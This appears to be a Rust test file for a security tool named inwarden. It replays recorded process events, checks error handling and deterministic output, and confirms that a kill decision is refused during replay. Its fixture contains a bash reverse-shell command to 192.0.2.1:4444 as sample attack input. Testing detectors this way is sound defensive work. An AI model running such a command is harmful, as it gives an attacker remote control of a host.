//! Replay of a recording, judging by rules alone: no model files are needed.

use std::{collections::BTreeSet, sync::Arc};

use inwarden::{
    Analyst, AnalystConfig, MemoryPlace, ReplayConfig, Warden,
    feeds::RecordingReader,
    models::ModelCache,
    types::{Action, ActionOutcome, CgroupId, Mode, RefusedReason, Scope},
    verdict_json,
};

const RECORDING: &str = concat!(
    "{\"schema\":\"inwarden.recording/1\"}\n",
    "{\"id\":\"1\",\"argv\":[\"ls\"]}\n",
    "not json\n",
    "{\"id\":\"2\",\"argv\":[\"bash\",\"-c\",\"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\"]}\n",
);

fn replay(mode: Mode) -> Vec<Result<inwarden::CaseReport, inwarden::feeds::FeedError>> {
    let analyst = Analyst::load(&AnalystConfig {
        model: None,
        memory: MemoryPlace::Off,
        ..AnalystConfig::new(ModelCache::at("unused".into()))
    })
    .expect("the shipped rules and the recording load");
    let config = ReplayConfig {
        mode,
        scope: Scope::Cgroups(BTreeSet::from([CgroupId(1)])),
    };
    let events = RecordingReader::new(RECORDING.as_bytes())
        .expect("the shipped rules and the recording load");
    Warden::replay(Arc::new(analyst), config, events).collect()
}

#[test]
fn a_bad_line_is_an_error_and_the_next_is_judged() {
    let reports = replay(Mode::Monitor);
    let shape: Vec<bool> = reports.iter().map(Result::is_ok).collect();
    assert_eq!(shape, [true, false, true]);
}

#[test]
fn two_replays_differ_in_times_alone() {
    let lines = || -> Vec<String> {
        replay(Mode::Monitor)
            .into_iter()
            .flatten()
            .map(|report| {
                let mut line = verdict_json(report.case.last(), &report.verdict, &report.decision);
                line.as_object_mut().unwrap().remove("stages_us");
                line.to_string()
            })
            .collect()
    };
    assert_eq!(lines(), lines());
}

#[test]
fn nothing_is_carried_out_and_a_process_without_a_key_is_outside_every_scope() {
    let attack = replay(Mode::Enforce).pop().unwrap().unwrap();
    assert_eq!(attack.decision.action, Action::Alert);
    assert_eq!(attack.action.outcome, ActionOutcome::Alerted);
    assert_eq!(attack.event_to_action, None);
}

#[test]
fn a_kill_inside_the_scope_is_refused_as_a_replay() {
    let line = RECORDING.lines().last().unwrap();
    let decoded = inwarden::feeds::decode_event(line.as_bytes()).unwrap();
    let mut event = decoded.event;
    event.process.cgroup_id = Some(CgroupId(1));
    event.process.key = Some(inwarden::types::ProcessKey {
        boot_id: inwarden::types::BootId([7; 16]),
        tgid: inwarden::types::Tgid(4242),
        start: inwarden::types::BootTime(1),
    });
    let analyst = Analyst::load(&AnalystConfig {
        model: None,
        memory: MemoryPlace::Off,
        ..AnalystConfig::new(ModelCache::at("unused".into()))
    })
    .unwrap();
    let config = ReplayConfig {
        mode: Mode::Enforce,
        scope: Scope::Cgroups(BTreeSet::from([CgroupId(1)])),
    };
    let reports: Vec<_> = Warden::replay(Arc::new(analyst), config, [Ok(event)])
        .map(Result::unwrap)
        .collect();
    assert_eq!(reports[0].decision.action, Action::Kill);
    assert_eq!(
        reports[0].action.outcome,
        ActionOutcome::Refused(RefusedReason::Replay)
    );
}
